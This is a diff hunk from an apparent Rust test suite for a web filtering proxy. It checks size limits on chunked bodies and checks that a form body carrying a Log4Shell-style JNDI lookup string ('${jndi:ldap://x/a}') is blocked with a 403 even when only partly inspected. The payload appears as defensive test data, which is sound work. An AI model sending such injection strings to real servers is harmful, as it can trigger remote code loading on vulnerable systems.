@@ -35,9 +35,9 @@ fn heads_and_bodies_have_a_size() {
     chunks.extend_from_slice(b"0\r\n\r\n");
     assert_eq!(status_of(&stage.send(&chunks)), 413);
     // The attack stands in the part that is judged, or after it: that is what `inspect_body` means.
-    let attack = b"q=${jndi:ldap://x/a}&".to_vec();
+    let attack = b"q=${jndi:ldap://x/a}&note=".to_vec();
     let form = "Content-Type: application/x-www-form-urlencoded\r\n";
-    assert_eq!(stage.status("POST /", form, &[&attack[..], &b"a=b&".repeat(5_000)].concat()), 403);
+    assert_eq!(stage.status("POST /", form, &[&attack[..], &b"x".repeat(20_000)].concat()), 403);
     let site = &stage.status_now()["sites"][0];
     assert!(site["partly_judged"].as_u64().unwrap() >= 1, "{site}");
 }
